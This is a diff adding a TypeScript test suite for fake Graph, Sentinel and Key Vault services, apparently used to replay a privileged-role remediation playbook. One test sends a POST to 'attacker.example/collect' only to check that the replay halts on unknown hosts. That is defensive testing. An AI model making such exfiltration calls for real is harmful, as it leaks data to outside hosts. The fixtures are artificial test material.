@@ -1,0 +1,195 @@
+import { expect } from "chai";
+import { DirectoryState, DirectoryStateError, parseDirectoryState } from "../playbook/replay/directory-state";
+import { FakeCloud, FakeKeyVault, UnexpectedHostError } from "../playbook/replay/fake-cloud";
+import { FakeGraph, parseFilter } from "../playbook/replay/fake-graph";
+import { FakeSentinel } from "../playbook/replay/fake-sentinel";
+import { ConnectorRequest, HttpRequest } from "../playbook/replay/network";
+
+const identity = "/subscriptions/s/resourceGroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-pimguard";
+const graphAuthentication = { type: "ManagedServiceIdentity", identity, audience: "https://graph.microsoft.com" };
+const alice = "4f1c2d3e-5a6b-4c7d-8e9f-0a1b2c3d4e5f";
+const globalAdmin = "62e90394-69f5-4237-9190-012177145e10";
+const assignmentsUrl = "https://graph.microsoft.com/v1.0/roleManagement/directory/roleAssignments";
+
+function directory(overrides: Partial<DirectoryState> = {}): DirectoryState {
+    return {
+        roleAssignments: [
+            { id: "ra-tenant", principalId: alice, roleDefinitionId: globalAdmin, directoryScopeId: "/" },
+            { id: "ra-other-role", principalId: alice, roleDefinitionId: "fe930be7-5e62-47db-91af-98c3a49a38b1", directoryScopeId: "/" },
+        ],
+        users: [alice],
+        servicePrincipals: ["7d9e8f10-2a3b-4c5d-9e6f-7a8b9c0d1e2f"],
+        groups: [],
+        faults: [],
+        ...overrides,
+    };
+}
+
+function graphRequest(method: string, url: string, authentication: unknown = graphAuthentication): HttpRequest {
+    return { method, url, headers: {}, authentication };
+}
+
+function listUrl(filter: string): string {
+    return `${assignmentsUrl}?$filter=${encodeURIComponent(filter)}`;
+}
+
+describe("playbook replay fakes", () => {
+    describe("Graph $filter parsing", () => {
+        it("reads eq clauses joined by and, unescaping '' in values", () => {
+            expect(parseFilter(`principalId eq '${alice}' and roleDefinitionId eq 'it''s'`)).to.deep.equal([
+                { property: "principalId", value: alice },
+                { property: "roleDefinitionId", value: "it's" },
+            ]);
+        });
+
+        for (const filter of [`principalId eq ${alice}`, `principalId ne '${alice}'`, `displayName eq 'x'`, `principalId eq 'a' or roleDefinitionId eq 'b'`, `principalId eq 'a' and`]) {
+            it(`refuses ${JSON.stringify(filter)}`, () => {
+                expect(parseFilter(filter)).to.equal(undefined);
+            });
+        }
+    });
+
+    describe("fake Graph", () => {
+        it("lists only the assignments matching the filter, ids compared case-insensitively", () => {
+            const graph = new FakeGraph(directory(), identity);
+            const response = graph.handle(graphRequest("GET", listUrl(`principalId eq '${alice.toUpperCase()}' and roleDefinitionId eq '${globalAdmin}'`)));
+            expect(response.statusCode).to.equal(200);
+            expect((response.body as { value: { id: string }[] }).value.map((assignment) => assignment.id)).to.deep.equal(["ra-tenant"]);
+        });
+
+        it("answers a filter it cannot parse with 400, as Graph does", () => {
+            const graph = new FakeGraph(directory(), identity);
+            expect(graph.handle(graphRequest("GET", listUrl(`principalId eq ${alice}`))).statusCode).to.equal(400);
+        });
+
+        it("deletes an assignment (204), then answers 404 Request_ResourceNotFound for it", () => {
+            const graph = new FakeGraph(directory(), identity);
+            expect(graph.handle(graphRequest("DELETE", `${assignmentsUrl}/ra-tenant`)).statusCode).to.equal(204);
+            const again = graph.handle(graphRequest("DELETE", `${assignmentsUrl}/ra-tenant`));
+            expect(again.statusCode).to.equal(404);
+            expect(again.body).to.have.nested.property("error.code", "Request_ResourceNotFound");
+            expect(graph.snapshot().roleAssignments.map((assignment) => assignment.id)).to.deep.equal(["ra-other-role"]);
+        });
+
+        it("revokes a user's sessions (200 value true) and answers 404 for a service principal", () => {
+            const graph = new FakeGraph(directory(), identity);
+            const user = graph.handle(graphRequest("POST", `https://graph.microsoft.com/v1.0/users/${alice}/revokeSignInSessions`));
+            expect(user).to.deep.include({ statusCode: 200 });
+            expect(user.body).to.have.property("value", true);
+            const servicePrincipal = graph.handle(graphRequest("POST", "https://graph.microsoft.com/v1.0/users/7d9e8f10-2a3b-4c5d-9e6f-7a8b9c0d1e2f/revokeSignInSessions"));
+            expect(servicePrincipal.statusCode).to.equal(404);
+        });
+
+        it("answers 404 to any path pimguard does not call: beta, a typo, another method", () => {
+            const graph = new FakeGraph(directory(), identity);
+            const unknown = [
+                graphRequest("DELETE", "https://graph.microsoft.com/beta/roleManagement/directory/roleAssignments/ra-tenant"),
+                graphRequest("DELETE", "https://graph.microsoft.com/v1.0/roleManagement/directory/roleAssignment/ra-tenant"),
+                graphRequest("POST", assignmentsUrl),
+                graphRequest("DELETE", `https://graph.microsoft.com/v1.0/directoryRoles/roleTemplateId=${globalAdmin}/members/${alice}`),
+            ];
+            expect(unknown.map((request) => graph.handle(request).statusCode)).to.deep.equal([404, 404, 404, 404]);
+            expect(graph.snapshot().roleAssignments).to.have.length(2);
+        });
+
+        it("rejects a request without the playbook's managed identity for Graph with 401", () => {
+            const graph = new FakeGraph(directory(), identity);
+            const wrong = [undefined, { type: "Raw", value: "Bearer x" }, { ...graphAuthentication, identity: "/other" }, { ...graphAuthentication, audience: "https://vault.azure.net" }];
+            const answers = wrong.map((authentication) => graph.handle({ method: "DELETE", url: `${assignmentsUrl}/ra-tenant`, headers: {}, authentication }).statusCode);
+            expect(answers).to.deep.equal([401, 401, 401, 401]);
+            expect(graph.snapshot().roleAssignments).to.have.length(2);
+        });
+
+        it("applies a fault to requests with its method whose path contains its path, for its first `times` attempts", () => {
+            const graph = new FakeGraph(directory({ faults: [{ method: "DELETE", path: "/roleAssignments/", status: 403, times: 1 }] }), identity);
+            expect(graph.handle(graphRequest("GET", listUrl(`principalId eq '${alice}'`))).statusCode).to.equal(200);
+            const denied = graph.handle(graphRequest("DELETE", `${assignmentsUrl}/ra-tenant`));
+            expect(denied.statusCode).to.equal(403);
+            expect(denied.body).to.deep.equal({ error: { code: "Authorization_RequestDenied", message: "Insufficient privileges to complete the operation." } });
+            expect(graph.handle(graphRequest("DELETE", `${assignmentsUrl}/ra-tenant`)).statusCode).to.equal(204);
+            expect(graph.snapshot().faults).to.deep.equal([]);
+        });
+
+        it("records every request with its method, URL and status", () => {
+            const graph = new FakeGraph(directory(), identity);
+            graph.handle(graphRequest("DELETE", `${assignmentsUrl}/nope`));
+            expect(graph.calls).to.deep.equal([{ method: "DELETE", url: `${assignmentsUrl}/nope`, status: 404 }]);
+        });
+    });
+
+    describe("fake Sentinel connector", () => {
+        const incidentId = "/subscriptions/s/resourceGroups/rg/providers/Microsoft.OperationalInsights/workspaces/w/providers/Microsoft.SecurityInsights/Incidents/1";
+        const connection = {
+            connectionId: "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/connections/azuresentinel",
+            id: "/subscriptions/s/providers/Microsoft.Web/locations/westeurope/managedApis/azuresentinel",
+            connectionProperties: { authentication: { type: "ManagedServiceIdentity", identity } },
+        };
+        const request = (method: string, path: string, body: unknown): ConnectorRequest => ({ connectionName: "azuresentinel", connection, method, path, queries: {}, body });
+
+        it("records comments and applies updates as sent", () => {
+            const sentinel = new FakeSentinel(incidentId, { status: "New", severity: "Medium" });
+            expect(sentinel.handle(request("POST", "/Incidents/Comment", { incidentArmId: incidentId, message: "done" })).statusCode).to.equal(200);
+            const update = { incidentArmId: incidentId, severity: "High", tagsToAdd: { TagsToAdd: [{ Tag: "pimguard-remediation-failed" }] } };
+            expect(sentinel.handle(request("PUT", "/Incidents", update)).statusCode).to.equal(200);
+            expect(sentinel.comments).to.deep.equal(["done"]);
+            expect(sentinel.updates).to.deep.equal([update]);
+            expect(sentinel.incident).to.deep.equal({ status: "New", severity: "High", tags: ["pimguard-remediation-failed"] });
+        });
+
+        it("refuses another incident, closing without a classification, unknown fields and values", () => {
+            const sentinel = new FakeSentinel(incidentId, { status: "New", severity: "Medium" });
+            const answers = [
+                request("POST", "/Incidents/Comment", { incidentArmId: `${incidentId}0`, message: "x" }),
+                request("PUT", "/Incidents", { incidentArmId: incidentId, status: "Closed" }),
+                request("PUT", "/Incidents", { incidentArmId: incidentId, priority: "P1" }),
+                request("PUT", "/Incidents", { incidentArmId: incidentId, severity: "Critical" }),
+                request("PUT", "/Incidents", { incidentArmId: incidentId, status: "Closed", classification: { ClassificationAndReason: "TruePositive" } }),
+                request("POST", "/Incidents/Comments", { incidentArmId: incidentId, message: "x" }),
+            ].map((sent) => sentinel.handle(sent).statusCode);
+            expect(answers).to.deep.equal([404, 400, 400, 400, 400, 404]);
+            expect(sentinel.comments).to.deep.equal([]);
+            expect(sentinel.updates).to.deep.equal([]);
+        });
+
+        it("refuses a connection that is not the azuresentinel API with a managed identity", () => {
+            const sentinel = new FakeSentinel(incidentId, { status: "New", severity: "Medium" });
+            const withoutIdentity = { ...request("POST", "/Incidents/Comment", { incidentArmId: incidentId, message: "x" }), connection: { ...connection, connectionProperties: {} } };
+            expect(sentinel.handle(withoutIdentity).statusCode).to.equal(401);
+        });
+    });
+
+    describe("fake Key Vault and the network", () => {
+        const vault = new FakeKeyVault("https://kv-test.vault.azure.net/", new Map([["webhook", "https://hooks.example/x"]]), identity);
+        const vaultAuthentication = { type: "ManagedServiceIdentity", identity, audience: "https://vault.azure.net" };
+
+        it("returns a secret to the playbook's identity", () => {
+            const response = vault.handle({ method: "GET", url: "https://kv-test.vault.azure.net/secrets/webhook?api-version=7.4", headers: {}, authentication: vaultAuthentication });
+            expect(response.statusCode).to.equal(200);
+            expect(response.body).to.have.property("value", "https://hooks.example/x");
+        });
+
+        it("needs the vault audience, the api-version and an existing secret", () => {
+            const get = (url: string, authentication: unknown = vaultAuthentication) => vault.handle({ method: "GET", url, headers: {}, authentication }).statusCode;
+            expect(get("https://kv-test.vault.azure.net/secrets/webhook?api-version=7.4", graphAuthentication)).to.equal(401);
+            expect(get("https://kv-test.vault.azure.net/secrets/webhook")).to.equal(400);
+            expect(get("https://kv-test.vault.azure.net/secrets/other?api-version=7.4")).to.equal(404);
+        });
+
+        it("stops the replay when the playbook calls a host it does not know", () => {
+            const cloud = new FakeCloud(new FakeGraph(directory(), identity), new FakeSentinel("/x/providers/Microsoft.SecurityInsights/Incidents/1", { status: "New", severity: "Low" }), vault, undefined);
+            expect(() => cloud.send({ method: "POST", url: "https://attacker.example/collect", headers: {} })).to.throw(UnexpectedHostError, /attacker\.example/);
+        });
+    });
+
+    describe("directory state files", () => {
+        it("treats absent lists as empty", () => {
+            expect(parseDirectoryState({ users: [alice] })).to.deep.equal({ roleAssignments: [], users: [alice], servicePrincipals: [], groups: [], faults: [] });
+        });
+
+        it("names what is wrong: an unknown key, a field of an assignment, a fault", () => {
+            expect(() => parseDirectoryState({ roleAssignment: [] })).to.throw(DirectoryStateError, /unknown key\(s\) roleAssignment/);
+            expect(() => parseDirectoryState({ roleAssignments: [{ id: "x", principalId: alice, roleDefinitionId: globalAdmin }] })).to.throw(DirectoryStateError, /roleAssignments\[0\]\.directoryScopeId/);
+            expect(() => parseDirectoryState({ faults: [{ method: "DELETE", path: "/x", status: 204, times: 1 }] })).to.throw(DirectoryStateError, /faults\[0\]\.status/);
+        });
+    });
+});
